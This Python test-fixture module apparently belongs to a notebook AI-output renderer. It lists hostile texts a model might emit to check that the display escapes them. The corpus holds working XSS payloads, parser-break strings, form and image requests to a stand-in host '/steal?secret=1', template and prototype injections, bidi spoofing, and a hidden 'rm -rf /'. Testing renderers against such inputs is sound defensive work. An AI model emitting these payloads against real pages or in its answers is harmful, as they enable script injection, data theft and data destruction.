"""What a hostile model could answer: each text trips a wire where it is obeyed, not shown.

The wires are ``window.tripwire``, a dialog, and a request to ``tripwire.invalid``. No text is
longer than a table shows of it (``SHOWN``), but for the last.
"""

from __future__ import annotations

from nbinfer.notebook.text import visible

__all__ = ["AT_ONCE", "CORPUS", "HUGE", "SHOWN", "answered", "prompts", "shown"]

SHOWN = 300
T = "window.tripwire=1"
FOREIGN = "http://tripwire.invalid"

# These trip a wire without a click in any page that takes them as HTML.
AT_ONCE = {
    "img onerror": f'<img src=x onerror="{T}">',
    "img onerror, no quotes": f"<IMG SRC=x OnError={T} >",
    "img of a foreign host": f'<img src="{FOREIGN}/seen.png?secret=1">',
    "image set": f'<img srcset="{FOREIGN}/1x.png 1x, {FOREIGN}/2x.png 2x">',
    "svg onload": f'<svg onload="{T}"><circle r=9></svg>',
    "svg image": f'<svg><image href="{FOREIGN}/svg.png" onerror="{T}"/></svg>',
    "svg animate": f'<svg><animate onbegin="{T}" attributeName=x dur=1s></svg>',
    "iframe srcdoc": f'<iframe srcdoc="<script>parent.{T.split(".")[1]}</script>"></iframe>',
    "iframe javascript": f'<iframe src="javascript:parent.{T.split(".")[1]}"></iframe>',
    "iframe of a foreign host": f'<iframe src="{FOREIGN}/frame.html"></iframe>',
    "object": f'<object data="{FOREIGN}/object.bin" type="text/html"></object>',
    "embed": f'<embed src="{FOREIGN}/embed.html" type="text/html">',
    "details ontoggle": f'<details open ontoggle="{T}"><summary>x</summary></details>',
    "input autofocus": f'<input autofocus onfocus="{T}">',
    "video source": f'<video><source src="{FOREIGN}/v.mp4" onerror="{T}"></video>',
    "audio": f'<audio src="{FOREIGN}/a.mp3" onerror="{T}"></audio>',
    "css url": f'<div style="background:url({FOREIGN}/bg.png);height:9px">x</div>',
    "css import": f"<style>@import url({FOREIGN}/s.css);</style>",
    "stylesheet": f'<link rel=stylesheet href="{FOREIGN}/l.css" onerror="{T}">',
    "comment break": f'<!--><img src=x onerror="{T}">-->',
    "comment bang": f'<!-- --!><img src=x onerror="{T}"> -->',
    "CDATA break": f'<![CDATA[><img src=x onerror="{T}">]]>',
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={T}>">',
    "textarea break": f'</textarea></pre></code><img src=x onerror="{T}">',
    "table break": f'</td></tr></table></div><img src=x onerror="{T}">',
    "style break": f'</style></title><img src=x onerror="{T}">',
    "dialog": '<img src=x onerror="alert(1)">',
}

CORPUS = {
    **AT_ONCE,
    "math namespace": f"<math><mtext><table><mglyph><style><img src=x onerror='{T}'></style>",
    "marquee": f'<marquee onstart="{T}">x</marquee>',
    "script": f"<script>{T}</script>",
    "script of a foreign host": f'<script src="{FOREIGN}/x.js"></script>',
    "script break": f'</script><script type="module">{T}</script>',
    "attribute break": f'" onmouseover="{T}" autofocus onfocus="{T}" x="',
    "attribute break, single": f"' onmouseover='{T}' autofocus onfocus='{T}' x='",
    "entities": f"&lt;img src=x onerror=&quot;{T}&quot;&gt; &#60;script&#62;{T}&#60;/script&#62;",
    "css expression": f'<p style="width:expression({T});behavior:url({FOREIGN}/b.htc)">x</p>',
    "css that hides": "<style>body{display:none!important}*{visibility:hidden}</style>",
    "overlay": '<div style="position:fixed;inset:0;z-index:99999;background:red">x</div>',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={FOREIGN}/gone">',
    "base": f'<base href="{FOREIGN}/">',
    "form": f'<form action="{FOREIGN}/steal"><button autofocus>Continue</button></form>',
    "link": f'<a href="javascript:{T}">click</a> <a href="data:text/html,{T}">x</a>',
    "markdown link": f"[click](javascript:{T}) [x](data:text/html,<script>{T}</script>)",
    "markdown image": f'![alt]({FOREIGN}/md.png) ![x](x"onerror="{T})',
    "markdown autolink": f"<javascript:{T}> <{FOREIGN}/auto>\n\n[r]: javascript:{T}\n[click][r]",
    "markdown code break": f'```\n</code></pre><img src=x onerror="{T}">\n```',
    "template literal": "${window.tripwire=1} `${alert(1)}` {{constructor('alert(1)')()}}",
    "template engines": f"<%= {T} %> #{{{T}}} {{% raw %}} {{{{7*7}}}} [[${{{T}}}]]",
    "MathJax href": f"$\\href{{javascript:{T}}}{{click}}$ \\(\\href{{javascript:{T}}}{{x}}\\)",
    "MathJax display": f"$$\\unicode{{x}}\\style{{background:url({FOREIGN}/m.png)}}{{x}}$$ $x^2$",
    "MathJax macro bomb": "$$\\def\\x{\\x\\x}\\x$$ \\[\\require{html}\\cssId{a}{x}\\]",
    "KaTeX html": f"$\\htmlData{{onclick={T}}}{{x}}\\includegraphics{{{FOREIGN}/k.png}}$",
    "ANSI colours": "\x1b[31mred\x1b[0m \x1b[8mhidden\x1b[0m \x1b[2J\x1b[H",
    "ANSI link": f"\x1b]8;;javascript:{T}\x1b\\click\x1b]8;;\x1b\\ \x9b31mC1",
    "carriage return": "rm -rf /\rls -la   \x08\x08\x08\x07",
    "NUL": f"a\x00b<scr\x00ipt>{T}</scr\x00ipt>\x7f",
    "bidi override": "user\u202e txt.exe \u2066gpj\u2069 \u202dend\u202c",
    "marks": "Z\u0300\u0301\u0302\u0303a\u0304lgo \ufeff \u2028 \ufffe \U0001f600\u200d",
    "prototype": '{"__proto__": {"tripwire": 1}, "text/html": "<img src=x onerror=alert(1)>"}',
    "widget view": '{"application/vnd.jupyter.widget-view+json": {"model_id": "x"}}',
}
HUGE = '<img src=x onerror="window.tripwire=1">' + "A" * 1_000_000


def prompts() -> list[str]:
    """The corpus as prompts of the echo engine, which answers with their words."""
    return list(CORPUS.values())


def answered(text: str) -> str:
    """What the echo engine answers: words with one space between them."""
    return " ".join(text.split())


def shown(text: str) -> str:
    """How a text is shown where nothing in it is obeyed."""
    return visible(text)
